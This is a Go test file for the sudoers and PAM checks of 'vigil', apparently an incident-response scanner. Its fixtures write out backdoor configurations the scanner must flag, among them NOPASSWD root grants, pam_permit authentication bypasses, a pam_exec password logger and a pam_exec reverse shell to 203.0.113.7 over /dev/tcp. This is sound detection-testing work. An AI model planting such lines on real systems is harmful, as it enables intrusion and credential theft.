package authn

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// debianPackages own the packaged files of the clean fixture.
var debianPackages = []dpkgfixture.Package{
	{Name: "sudo", Files: []string{"/etc/sudoers", "/etc/sudoers.d/README", "/etc/pam.d/sudo", "/usr/bin/sudo"}},
	{Name: "openssh-server", Files: []string{"/etc/pam.d/sshd"}},
	{Name: "login", Files: []string{"/etc/pam.d/login"}},
	{Name: "util-linux", Files: []string{"/etc/pam.d/su"}},
	{Name: "cron", Files: []string{"/etc/pam.d/cron"}},
	{Name: "libpam-runtime", Arch: "all", Files: []string{"/etc/pam.d/other"}},
	{Name: "libpam-systemd", Files: []string{"/lib/x86_64-linux-gnu/security/pam_systemd.so"}},
	{Name: "systemd", Files: []string{"/usr/bin/systemctl"}},
	{Name: "libpam-modules", MultiArch: true, Files: modules(
		"unix", "deny", "permit", "nologin", "selinux", "loginuid", "keyinit", "motd", "mail", "limits", "env",
		"rootok", "faildelay", "group", "lastlog", "wheel", "time", "access", "exec", "succeed_if")},
}

func modules(names ...string) []string {
	var out []string
	for _, n := range names {
		out = append(out, "/lib/x86_64-linux-gnu/security/pam_"+n+".so")
	}
	return out
}

// edit changes the clean fixture: replace old by new in file, append when
// old is empty, add the file when it is not there.
type edit struct{ file, old, new string }

// fixture builds the clean root, writes the dpkg database when withDpkg,
// then applies the edits (after the database, so edited packaged files
// are no longer pristine).
func fixture(t testing.TB, withDpkg bool, edits ...edit) string {
	t.Helper()
	ar, err := txtar.ParseFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromArchive(t, ar)
	if withDpkg {
		dpkgfixture.Write(t, dir, debianPackages...)
	}
	if len(edits) == 0 {
		return dir
	}
	mod := &txtar.Archive{}
	for _, e := range edits {
		name := strings.Fields(e.file)[0]
		data := e.new
		for _, f := range ar.Files {
			if strings.Fields(f.Name)[0] == name {
				s := string(f.Data)
				if e.old == "" {
					data = s + e.new
				} else {
					if !strings.Contains(s, e.old) {
						t.Fatalf("fixture edit: %q not in %s", e.old, name)
					}
					data = strings.Replace(s, e.old, e.new, 1)
				}
				ar.Files = append(ar.Files[:0:0], ar.Files...) // keep later edits on the edited content
				f.Data = []byte(data)
			}
		}
		mod.Files = append(mod.Files, txtar.File{Name: e.file, Data: []byte(data)})
	}
	dpkgfixture.Overlay(t, dir, testutil.RootFromArchive(t, mod))
	return dir
}

func TestCleanDebianIsQuiet(t *testing.T) {
	for _, withDpkg := range []bool{true, false} {
		r := enginetest.Run(t, New(), fixture(t, withDpkg), false)
		enginetest.Quiet(t, r.Findings, model.Low)
		// The scoped NOPASSWD rule is inventory.
		if got := r.Find(ruleSudoNoPasswd); len(got) != 1 || got[0].Severity != model.Info || got[0].Evidence.Line != 3 {
			t.Errorf("dpkg=%v: scoped NOPASSWD inventory = %+v", withDpkg, got)
		}
		for _, g := range r.Gaps {
			if g.Check == "pkgdb" && !withDpkg {
				continue // "no package database": expected here
			}
			t.Errorf("dpkg=%v: unexpected gap %+v", withDpkg, g)
		}
	}
}

const dropIn = "etc/sudoers.d/zz-local mode=0440"

func TestFires(t *testing.T) {
	tests := []struct {
		name    string
		edits   []edit
		rule    string
		subject string // substring of the subject
		sev     model.Severity
		ind     string
	}{
		{"nopasswd all for www-data", []edit{{dropIn, "", "www-data ALL=(ALL) NOPASSWD: ALL\n"}}, ruleSudoNoPasswd, "www-data", model.Critical, indAnyCommand},
		{"nopasswd all for everyone", []edit{{dropIn, "", "ALL ALL=(ALL:ALL) NOPASSWD:ALL\n"}}, ruleSudoNoPasswd, "ALL", model.Critical, indAnyCommand},
		{"nopasswd shell via alias for a user", []edit{{dropIn, "", "User_Alias HELPERS = alice\nCmnd_Alias SH = /bin/bash\nHELPERS ALL=(root) NOPASSWD: SH\n"}}, ruleSudoNoPasswd, "alice", model.High, indShellEscape},
		{"nopasswd vim for a user", []edit{{dropIn, "", "alice ALL = NOPASSWD: /usr/bin/vim /etc/hosts\n"}}, ruleSudoNoPasswd, "alice", model.High, indShellEscape},
		{"nopasswd find for a group with a service account", []edit{{dropIn, "", "%webops ALL=(ALL) NOPASSWD: /usr/bin/find\n"}}, ruleSudoNoPasswd, "%webops", model.Critical, indShellEscape},
		{"nopasswd tee", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /usr/bin/tee /etc/app/*\n"}}, ruleSudoNoPasswd, "deploy: /usr/bin/tee", model.High, indFileWrite},
		{"nopasswd cat any log", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /usr/bin/cat /var/log/*\n"}}, ruleSudoNoPasswd, "deploy: /usr/bin/cat", model.High, indFileRead},
		{"nopasswd su to root", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /bin/su -\n"}}, ruleSudoNoPasswd, "deploy: /bin/su", model.High, indShellEscape},
		{"nopasswd python script the user owns", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /usr/bin/python3 /home/deploy/app/manage.py migrate\n"}}, ruleSudoNoPasswd, "deploy: /usr/bin/python3", model.High, indWritable},
		{"nopasswd bash interactive", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /bin/bash -i\n"}}, ruleSudoNoPasswd, "deploy: /bin/bash", model.High, indShellEscape},
		{"nopasswd open systemctl", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl\n"}}, ruleSudoNoPasswd, "deploy: /usr/bin/systemctl\n", model.High, indShellEscape},
		{"nopasswd script in tmp", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /tmp/.u/update.sh\n"}}, ruleSudoNoPasswd, "deploy: /tmp", model.High, indWritable},
		{"nopasswd script the user owns", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD: /home/deploy/bin/release\n"}}, ruleSudoNoPasswd, "deploy: /home", model.High, indWritable},
		{"nopasswd setenv", []edit{{dropIn, "", "deploy ALL=(root) NOPASSWD:SETENV: /usr/bin/systemctl restart nginx\n"}}, ruleSudoNoPasswd, "deploy: /usr/bin/systemctl restart", model.High, indSetenv},
		{"admin nopasswd all", []edit{{dropIn + " mtime=2026-11-24T10:00:00Z", "", "ops ALL=(ALL) NOPASSWD: ALL\n"}}, ruleSudoNoPasswd, "ops", model.High, indAnyCommand}, // fresh file: medium raised
		{"cloud-init default user", []edit{{"etc/sudoers.d/90-cloud-init-users mode=0440 mtime=2026-01-10T08:00:00Z", "", "# Created by cloud-init v. 22.4.2 on Sat, 10 Jan 2026 08:00:00 +0000\n\n# User rules for ops\nops ALL=(ALL) NOPASSWD:ALL\n"}}, ruleSudoNoPasswd, "ops", model.Low, indAnyCommand},
		{"nopasswd shell as postgres for www-data", []edit{{dropIn, "", "www-data ALL=(postgres) NOPASSWD: /bin/bash\n"}}, ruleSudoNoPasswd, "www-data", model.Medium, indShellEscape},
		{"non-admin with password ALL is inventory", []edit{{dropIn, "", "alice ALL=(ALL:ALL) ALL\n"}}, ruleSudoRootGrant, "alice", model.Info, indAnyCommand},
		{"group with password ALL is inventory", []edit{{dropIn, "", "%devs ALL=(ALL) ALL\n"}}, ruleSudoRootGrant, "%devs", model.Info, indAnyCommand},
		{"dormant: name with a dot", []edit{{"etc/sudoers.d/www.bak mode=0440", "", "www-data ALL=(ALL) NOPASSWD: ALL\n"}}, ruleSudoNoPasswd, "www-data", model.Critical, indAnyCommand},
		{"dormant: editor backup", []edit{{"etc/sudoers.d/zz~ mode=0440", "", "alice ALL=(ALL) NOPASSWD: /bin/bash\n"}}, ruleSudoNoPasswd, "alice", model.High, indShellEscape},
		{"dormant: defaults in a skipped file", []edit{{"etc/sudoers.d/env.old", "", "Defaults env_keep += LD_PRELOAD\n"}}, ruleSudoEnv, "LD_PRELOAD", model.High, indLDPreload},
		{"timestamp never expires", []edit{{dropIn, "", "Defaults timestamp_timeout=-1\n"}}, ruleSudoWeak, "timestamp_timeout=-1", model.High, ""},
		{"timestamp 10 hours", []edit{{dropIn, "", "Defaults:%sudo timestamp_timeout=600\n"}}, ruleSudoWeak, "timestamp_timeout=600", model.Medium, ""},
		{"no tty tickets", []edit{{dropIn, "", "Defaults !tty_tickets\n"}}, ruleSudoWeak, "!tty_tickets", model.Medium, ""},
		{"global timestamp", []edit{{dropIn, "", "Defaults timestamp_type=global\n"}}, ruleSudoWeak, "timestamp_type=global", model.Medium, ""},
		{"requiretty dropped", []edit{{"etc/sudoers", "Defaults	use_pty", "Defaults	use_pty\nDefaults	requiretty"}, {dropIn, "", "Defaults:deploy !requiretty\n"}}, ruleSudoWeak, "!requiretty", model.Low, ""},
		{"keep PYTHONPATH", []edit{{dropIn, "", "Defaults env_keep += \"PYTHONPATH\"\n"}}, ruleSudoEnv, "PYTHONPATH", model.High, ""},
		{"keep LD_LIBRARY_PATH", []edit{{dropIn, "", "Defaults env_keep += \"LD_LIBRARY_PATH\"\n"}}, ruleSudoEnv, "LD_LIBRARY_PATH", model.High, indLDPreload},
		{"service with password shell", []edit{{dropIn, "", "www-data ALL=(root) /usr/bin/python3\n"}}, ruleSudoRootGrant, "www-data", model.High, indShellEscape},
		{"uid spec", []edit{{dropIn, "", "#1002 ALL=(#0) NOPASSWD: ALL\n"}}, ruleSudoNoPasswd, "#1002", model.High, indAnyCommand},
		{"no authenticate", []edit{{"etc/sudoers", "Defaults	use_pty", "Defaults	use_pty\nDefaults	!authenticate"}}, ruleSudoNoAuth, "!authenticate", model.High, ""},
		{"keep LD_PRELOAD", []edit{{dropIn, "", "Defaults env_keep += \"LD_PRELOAD\"\n"}}, ruleSudoEnv, "LD_PRELOAD", model.High, indLDPreload},
		{"keep PYTHON*", []edit{{dropIn, "", "Defaults:%sudo env_keep += \"PYTHON*\"\n"}}, ruleSudoEnv, "PYTHON*", model.High, ""},
		{"no env_reset", []edit{{dropIn, "", "Defaults !env_reset\n"}}, ruleSudoEnv, "!env_reset", model.Medium, ""},
		{"secure_path tmp", []edit{{"etc/sudoers", "secure_path=\"/usr/local/sbin", "secure_path=\"/tmp:/usr/local/sbin"}}, ruleSudoEnv, "secure_path /tmp", model.High, indWritable},
		{"world-writable drop-in", []edit{{"etc/sudoers.d/zz-local mode=0666", "", "# nothing yet\n"}}, ruleSudoPerms, "/etc/sudoers.d/zz-local", model.High, indWritable},
		{"include followed", []edit{{"etc/sudoers", "", "@include /etc/sudo.local\n"}, {"etc/sudo.local", "", "www-data ALL=NOPASSWD: ALL\n"}}, ruleSudoNoPasswd, "www-data", model.Critical, indAnyCommand},

		{"permit sufficient in common-auth", []edit{{"etc/pam.d/common-auth", "# here are the per-package modules", "auth sufficient pam_permit.so\n# here are the per-package modules"}}, rulePamPermit, "common-auth", model.Critical, ""},
		{"permit jump in sshd", []edit{{"etc/pam.d/sshd", "@include common-auth", "auth [success=2 default=ignore] pam_permit.so\n@include common-auth"}}, rulePamPermit, "sshd", model.Critical, ""},
		{"permit-only stack in su", []edit{{"etc/pam.d/su", "@include common-auth", "auth required pam_permit.so"}}, rulePamPermit, "su", model.Critical, ""},
		{"permit sufficient elsewhere", []edit{{"etc/pam.d/chfn", "", "auth sufficient pam_permit.so\n"}}, rulePamPermit, "chfn", model.Critical, ""},
		{"permit sufficient other service", []edit{{"etc/pam.d/myapp", "", "auth sufficient pam_permit.so\n"}}, rulePamPermit, "myapp", model.Critical, ""},
		{"permit alone in any service", []edit{{"etc/pam.d/vsftpd2", "", "auth required pam_permit.so\naccount required pam_unix.so\n"}}, rulePamPermit, "vsftpd2", model.Critical, ""},
		{"permit alone in other", []edit{{"etc/pam.d/other", "@include common-auth", "auth required pam_permit.so"}}, rulePamPermit, "other", model.Critical, ""},
		{"autologin permit is by design", []edit{{"etc/pam.d/gdm-autologin", "", "auth required pam_permit.so\n"}}, rulePamPermit, "gdm-autologin", model.Low, ""},
		{"succeed_if uid >= 0 sufficient", []edit{{"etc/pam.d/common-auth", "# here are the per-package modules", "auth sufficient pam_succeed_if.so uid >= 0\n# here are the per-package modules"}}, rulePamAlwaysTrue, "common-auth", model.Critical, ""},
		{"succeed_if user != nonexistent", []edit{{"etc/pam.d/sshd", "@include common-auth", "auth sufficient pam_succeed_if.so quiet user != nonexistent\n@include common-auth"}}, rulePamAlwaysTrue, "sshd", model.Critical, ""},
		{"succeed_if notin done", []edit{{"etc/pam.d/cups", "", "auth [success=done default=ignore] pam_succeed_if.so user notin x1:x2 uid ge 0\n@include common-auth\n"}}, rulePamAlwaysTrue, "cups", model.Critical, ""},
		{"succeed_if account", []edit{{"etc/pam.d/sshd", "", "account sufficient pam_succeed_if.so user =~ *\n"}}, rulePamAlwaysTrue, "sshd", model.High, ""},
		{"writable module in the system directory", []edit{{"etc/pam.d/sshd", "", "auth optional pam_helper.so\n"}, {"usr/lib/x86_64-linux-gnu/security/pam_helper.so mode=0666", "", "ELF"}}, rulePamModPath, "sshd", model.Critical, indWritable},
		{"pam_exec password stealer", []edit{{"etc/pam.d/common-auth", "auth	requisite", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pwlog\nauth	requisite"}, {"usr/local/bin/pwlog", "", "#!/bin/sh\ncat >> /var/log/.p\n"}}, rulePamExec, "common-auth", model.Critical, indCredential},
		{"pam_exec in tmp", []edit{{"etc/pam.d/sshd", "", "session optional pam_exec.so /dev/shm/.s\n"}}, rulePamExec, "sshd", model.Critical, indWritable},
		{"pam_exec session", []edit{{"etc/pam.d/sshd", "", "session optional pam_exec.so /usr/local/sbin/notify-login\n"}, {"usr/local/sbin/notify-login", "", "#!/bin/sh\n"}}, rulePamExec, "sshd", model.High, ""},
		{"pam_exec reverse shell", []edit{{"etc/pam.d/login", "", "session optional pam_exec.so /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n"}}, rulePamExec, "login", model.Critical, "reverse-shell.dev-tcp"},
		{"pam_script", []edit{{"etc/pam.d/sshd", "", "auth optional pam_script.so\n"}, {"usr/lib/x86_64-linux-gnu/security/pam_script.so", "", "ELF"}}, rulePamExec, "sshd", model.High, ""},
		{"module from tmp", []edit{{"etc/pam.d/common-auth", "auth	requisite", "auth sufficient /tmp/.x/pam_unix.so\nauth	requisite"}}, rulePamModPath, "common-auth", model.Critical, indWritable},
		{"module from opt", []edit{{"etc/pam.d/sshd", "", "auth optional /opt/pam/pam_audit.so\n"}}, rulePamModPath, "sshd", model.Critical, ""},
		{"module escapes security dir", []edit{{"etc/pam.d/sshd", "", "auth optional /lib/x86_64-linux-gnu/security/../../../tmp/x.so\n"}}, rulePamModPath, "sshd", model.Critical, indWritable},
		{"module missing", []edit{{"etc/pam.d/sshd", "", "auth required pam_sshd_helper.so\n"}}, rulePamMissing, "sshd", model.Medium, "missing-file"},
		{"module not from a package", []edit{{"etc/pam.d/common-auth", "auth	requisite", "auth optional pam_helper.so\nauth	requisite"}, {"usr/lib/x86_64-linux-gnu/security/pam_helper.so", "", "ELF"}}, rulePamUnowned, "common-auth", model.Critical, indNotPackaged},
		{"pam.conf", []edit{{"etc/pam.conf", "", "sshd auth sufficient pam_permit.so\n"}}, rulePamPermit, "sshd", model.Critical, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, true, tc.edits...), false)
			var seen []string
			for _, f := range r.Find(tc.rule) {
				if !strings.Contains(f.Subject+"\n", tc.subject) {
					seen = append(seen, f.Subject)
					continue
				}
				if f.Severity != tc.sev {
					t.Errorf("%s: severity %s, want %s", f.Subject, f.Severity, tc.sev)
				}
				if tc.ind != "" && !contains(f.Indicators, tc.ind) {
					t.Errorf("%s: indicators %v, want %s", f.Subject, f.Indicators, tc.ind)
				}
				if f.Evidence.Path == "" || (tc.rule != ruleSudoPerms && (f.Evidence.Line == 0 || f.Evidence.Text == "")) {
					t.Errorf("evidence incomplete: %+v", f.Evidence)
				}
				return
			}
			t.Errorf("no %s finding on %q; got %v; all: %v", tc.rule, tc.subject, seen, r.Rules())
		})
	}
}

// NOPASSWD rules for one fixed, harmless command are inventory (info),
// and an administrator's ordinary rules are not findings.
func TestScopedRulesAreInventory(t *testing.T) {
	rules := []string{
		"%dba ALL=(root) NOPASSWD: /bin/su - oracle",
		"deploy ALL=(root) NOPASSWD: /usr/bin/chown -R www-data\\:www-data /var/www/html",
		"deploy ALL=(root) NOPASSWD: /usr/bin/tee /etc/nginx/conf.d/upstream.conf",
		"deploy ALL=(root) NOPASSWD: /usr/bin/python3 /opt/tools/rotate.py --all",
		"deploy ALL=(root) NOPASSWD: /usr/bin/find /var/cache/app -type f -mtime +7 -delete",
		"deploy ALL=(root) NOPASSWD: /usr/bin/tail -n 200 /var/log/nginx/error.log",
		"deploy ALL=(root) NOPASSWD: /usr/bin/docker ps",
		"nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_disk",
		"ops ALL=(ALL) ALL",
		"%ops ALL=(ALL:ALL) ALL",
		"alice ALL=(ALL:ALL) ALL",
		"Defaults timestamp_timeout=30",
		"Defaults timestamp_timeout=0",
		"%sudo ALL=(ALL:ALL) ALL",
		"Defaults:%sudo env_keep += \"http_proxy https_proxy GIT_AUTHOR_* GIT_COMMITTER_*\"",
		"Defaults !requiretty",
	}
	for _, rule := range rules {
		t.Run(rule, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, true, edit{dropIn, "", rule + "\n"}), false)
			enginetest.Quiet(t, r.Findings, model.Low)
		})
	}
}

// A sudoers drop-in owned by an ordinary user lets that user grant
// himself root.
func TestSudoersOwnedByUser(t *testing.T) {
	dir := fixture(t, true)
	if err := os.Chown(filepath.Join(dir, "etc/sudoers.d/web-deploy"), 1001, 1001); err != nil {
		t.Skip("cannot chown (not root):", err)
	}
	r := enginetest.Run(t, New(), dir, false)
	got := r.Find(ruleSudoPerms)
	if len(got) != 1 || got[0].Evidence.Extra["problem"] != "owned by deploy" {
		t.Fatalf("perms findings = %+v", got)
	}
}

// A packaged file exactly as shipped is not graded, however it reads.
func TestPristinePackagedFileIsKnownGood(t *testing.T) {
	dir := testutil.RootFromString(t, `
-- etc/pam.d/gdm-autologin --
auth sufficient pam_permit.so
-- usr/lib/x86_64-linux-gnu/security/pam_permit.so --
ELF
`)
	dpkgfixture.Write(t, dir, dpkgfixture.Package{Name: "gdm3", Files: []string{"/etc/pam.d/gdm-autologin"}},
		dpkgfixture.Package{Name: "libpam-modules", Files: []string{"/usr/lib/x86_64-linux-gnu/security/pam_permit.so"}})
	r := enginetest.Run(t, New(), dir, false)
	if len(r.Findings) != 0 {
		t.Fatalf("pristine file graded: %v", r.Rules())
	}
	os.WriteFile(filepath.Join(dir, "etc/pam.d/gdm-autologin"), []byte("auth sufficient pam_permit.so\n\n"), 0o644)
	r = enginetest.Run(t, New(), dir, false)
	if !r.Has(rulePamPermit, "") {
		t.Fatalf("modified packaged file not graded: %v", r.Rules())
	}
}

func TestHostileFiles(t *testing.T) {
	dir := fixture(t, false,
		edit{"etc/sudoers.d/loop", "", "@include /etc/sudoers\n@includedir /etc/sudoers.d\n"},
		edit{"etc/pam.d/garbage", "", "\xff\xfe\x00 nonsense\nauth\n[[[[\n"},
	)
	for _, p := range []string{"etc/sudoers.d/pipe", "etc/pam.d/fifo"} {
		if err := syscall.Mkfifo(filepath.Join(dir, p), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := enginetest.Run(t, New(), dir, false)
	paths := map[string]bool{}
	for _, g := range r.Gaps {
		paths[g.Path] = true
	}
	for _, want := range []string{"/etc/sudoers.d/pipe", "/etc/pam.d/fifo", "/etc/pam.d/garbage:1"} {
		if !paths[want] {
			t.Errorf("no gap for %s: %+v", want, r.Gaps)
		}
	}
}

// The Debian root CI builds with debootstrap (scripts/debian-root.sh), when
// present: real default sudoers and PAM files must give nothing above info.
func TestRealDebianRoot(t *testing.T) {
	root := os.Getenv("VIGIL_E2E_ROOT")
	if root == "" {
		root = "/var/cache/vigil-e2e/bookworm"
	}
	if _, err := os.Stat(filepath.Join(root, "etc/pam.d")); err != nil {
		t.Skip("no Debian root")
	}
	r := enginetest.Run(t, New(), root, false)
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, g := range r.Gaps {
		t.Logf("gap: %+v", g)
	}
}

func BenchmarkAuthn(b *testing.B) {
	dir := fixture(b, true)
	for b.Loop() {
		enginetest.Run(b, New(), dir, false)
	}
}
